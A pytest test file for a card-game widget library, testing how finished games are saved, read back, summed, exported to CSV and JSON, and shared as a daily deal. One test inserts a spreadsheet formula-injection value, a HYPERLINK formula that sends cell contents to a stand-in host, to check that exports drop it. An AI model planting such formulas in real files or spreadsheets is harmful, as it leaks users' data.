"""One's own games: what is kept of them, what they come to, and the deal of the day."""

from __future__ import annotations

import csv
import json
from dataclasses import replace
from random import Random
from typing import Any

import pytest

from hanawidgets.core.registry import GAMES
from hanawidgets.core.session import Session, shared_with
from hanawidgets.text import words_in
from hanawidgets.widgets.review.kept_file import _LINE, Belongings
from hanawidgets.widgets.table.own_games import LONGEST, kept_of, read, written
from hanawidgets.widgets.table.people import level_name

from .kind import Kind
from .tables import KINDS, over
from .wire import ask, done

DAY = "2026-11-23"


@pytest.fixture(params=KINDS, ids=str)
def kind(request: pytest.FixtureRequest) -> Kind:
    """Each game's table."""
    return request.param


SHORT = {"koikoi": "bga_general_half", "ohhell": "short_valley;hand_sizes=2+3", "haggis": "two"}


def a_game(kind: Kind, seed: int = 1) -> Session:
    """A game that is over."""
    return over(kind.make, session_rules(kind), seed)


def session_rules(kind: Kind) -> str:
    """The rules of a short game."""
    return SHORT.get(str(kind), kind.short)


def lines(*sessions: Session) -> str:
    """What a page keeps of games."""
    kept = [kept_of(session) for session in sessions]
    return "\n".join(DAY + written(one)["line"] for one in kept if one)


def test_a_game_is_kept_when_it_is_over_and_reads_back(kind: Kind) -> None:
    session = a_game(kind)
    kept, outcome = kept_of(session), session.now.outcome
    assert kept and outcome
    assert read(lines(session), GAMES[str(kind)]) == [kept._replace(day=DAY)]
    assert kept.points == outcome.points["A"] and (kept.result == "l") == ("A" not in outcome.winners)
    assert len(kept.deals) == sum(event.kind in ("dealt",) for move in session.moves for event in move.events)
    assert kind.make(start=str(session)).view["finished"] == written(kept)
    assert kept_of(session.goto(3)) == kept, "a game that was stepped back in is the same game"
    assert written(kept)["line"].startswith(written(kept)["id"])


def test_what_is_no_game_of_ones_own_is_not_kept(kind: Kind) -> None:
    game = GAMES[str(kind)]
    for opponent in ("simple", "open", "pass"):
        assert kind.make(opponent=opponent, seed=1).view["finished"] is None
    assert kept_of(Session(game, game.parse_rules(kind.short), game.opponents, frozenset("A"), "simple")) is None


def test_one_person_against_opponents_of_several_kinds_has_a_game_of_their_own(kind: Kind) -> None:
    session = a_game(kind)
    *others, last = [seat for seat in session.seats if seat != "A"]
    level = "strong" if "strong" in GAMES[str(kind)].opponents else "random"
    levels = {**dict.fromkeys(others, "simple"), last: level}
    kept = kept_of(replace(session, opponent=shared_with(levels)))
    assert kept and kept.level == ("mixed" if others else level)
    table = kind.make(seed=1)
    done(table, "own_games", kept=DAY + written(kept)["line"])
    assert table.view["own"]["rows"][0]["level"] == level_name(str(kind), kept.level, words_in(table.language))
    assert kept_of(replace(session, opponent="pass", people=frozenset(session.seats))) is None


def test_games_come_to_sums_and_to_files(kind: Kind) -> None:
    sessions = [a_game(kind, seed) for seed in (1, 2)]
    kept, table = lines(*sessions), kind.make(seed=1)
    assert table.view["own"] is None
    done(table, "own_games", kept=f"{kept}\nnonsense\n{DAY}*no rules*x")
    (row,) = table.view["own"]["rows"]
    games = read(kept, GAMES[str(kind)])
    assert (row["games"], row["won"]) == (2, sum(one.result == "w" for one in games))
    assert row["points"].replace("−", "-") == f"{sum(one.points for one in games) / 2:.1f}"
    assert table.view["own"]["lines"]
    done(table, "own_export", kept=kept, form="json")
    assert [one["seed"] for one in json.loads(table.view["file"]["text"])] == ["1", "2"]
    done(table, "own_export", kept=kept, form="csv")
    first, *rows = csv.reader(table.view["file"]["text"].splitlines())
    assert first[0] == "day" and len(rows) == 2 and all(len(row) == len(first) for row in rows)
    assert "error" in ask(table, "own_export", kept=kept, form="exe")
    assert "error" in ask(table, "own_games", kept="x" * (LONGEST + 1))
    done(table, "own_games", kept="")
    assert not table.view["own"]["rows"]


def test_yaku_of_a_lost_round_are_not_told_as_a_part_of_the_rounds_won(lang: str) -> None:
    table = KINDS[0].make(seed=1, lang=lang)
    line = f"{DAY}*bga_general_half*simple*A*5*l*-12*lle*sanko:1"
    done(table, "own_games", kept=line)
    won, made = table.view["own"]["lines"]
    assert "0" in won and "1" in made
    assert ("lost" if lang == "en" else "負けた") in made, "made, and lost"


def test_a_line_cannot_bring_anything_but_numbers_of_what_is_known(kind: Kind) -> None:
    line = lines(a_game(kind)).rpartition("*")[0]
    table = kind.make(seed=1)
    done(table, "own_games", kept=f"{line}*no-such-thing:3")
    assert table.view["own"]["rows"] and not any("no-such-thing" in text for text in table.view["own"]["lines"])
    done(table, "own_games", kept=line.replace(session_rules(kind).partition(";")[0], "no_rules") + "*")
    assert not table.view["own"]["rows"]


def test_a_line_whose_rules_are_none_is_in_no_sum_and_no_file(kind: Kind) -> None:
    line = lines(a_game(kind))
    foreign = line.replace(session_rules(kind).partition(";")[0], '=HYPERLINK("http://x.invalid/"&A1,"x")')
    assert "=HYPERLINK" in foreign
    table = kind.make(seed=1)
    done(table, "own_games", kept=foreign)
    assert not table.view["own"]["rows"] and len(table.view["own"]["lines"]) == 1, "the word that there is none"
    for form in ("csv", "json"):
        done(table, "own_export", kept=f"{foreign}\n{line}", form=form)
        text = table.view["file"]["text"]
        assert "HYPERLINK" not in text and line.split("*")[4] in text
    good, bad = (_LINE.write({"game": str(kind), "line": each}) for each in (line, foreign))
    found = Belongings.read(f"{good}\n{bad}")
    assert (found.unread, found.games) == (1, {str(kind): line}), "a file with such a line is told of"


@pytest.mark.slow
def test_the_deal_of_the_day_is_the_same_for_all_and_is_shared_as_signs(kind: Kind) -> None:
    one, other = kind.make(opponent="open", seed=5), kind.make(seat="B", seed=6)
    for table in (one, other):
        done(table, "daily", day=DAY)
    assert one.session.seed == other.session.seed and one.state == other.state
    assert one.seat == other.seat == "A" and one.view["notice"] and not one.view["share"]
    for day in ("", "2026-13-01", "tomorrow"):
        assert "error" in ask(one, "daily", day=day)
    table: Any = kind.make(session_rules(kind), seed=1, opponent="random")  # type: ignore[no-redef]
    done(table, "daily", day=DAY)
    kind.go_on(table, Random(1))
    title, signs, result = table.view["share"].splitlines()
    kept = kept_of(table.session)
    assert kept and DAY in title and str(abs(kept.points)) in result and len(signs) >= len(kept.deals)
